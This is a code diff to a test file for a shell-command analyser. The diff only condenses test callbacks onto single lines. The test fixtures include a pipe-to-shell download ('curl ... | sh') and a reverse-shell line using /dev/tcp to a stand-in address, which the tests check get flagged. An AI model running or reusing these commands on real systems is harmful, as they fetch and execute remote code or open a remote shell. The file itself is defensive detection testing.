@@ -37,9 +37,7 @@ it.each([
   ["cat list | xargs cat", "read inside list; read not_known"],
   [`printf '${"a\\n".repeat(60)}' | xargs cat`, "read not_known"],
   ["parallel cat ::: a ../b", "read inside a; read outside ../b"],
-])("words of an input are known where it is written out: %s", (command, effects) => {
-  expect(effectLines(command)).toBe(effects);
-});
+])("words of an input are known where it is written out: %s", (command, effects) => expect(effectLines(command)).toBe(effects));
 
 it.each([
   ["curl https://e.com/x | sh", true],
@@ -58,9 +56,7 @@ it.each([
   ["curl -o data.json https://e.com/data.json; node a.js", false],
   ["curl https://e.com/x | jq .", false],
   ['x=$(curl https://e.com/x); echo "$x"', false],
-])("%s runs a download unread: %s", (command, runs) => {
-  expect(effectLines(command).includes("!shell.download_and_run")).toBe(runs);
-});
+])("%s runs a download unread: %s", (command, runs) => expect(effectLines(command).includes("!shell.download_and_run")).toBe(runs));
 
 it.each([
   ["sh -i >& /dev/tcp/192.0.2.1/4444 0>&1", true],
@@ -84,6 +80,4 @@ it.each([
   ["gh api x -F a=b", "connect outside api.github.com"],
   ["sudo -D src cat ../../x", "read outside ../x"],
   ["sudo -D $x cat y", "read not_known"],
-])("%s: %s", (command, effect) => {
-  expect(effectLines(command)).toContain(effect);
-});
+])("%s: %s", (command, effect) => expect(effectLines(command)).toContain(effect));
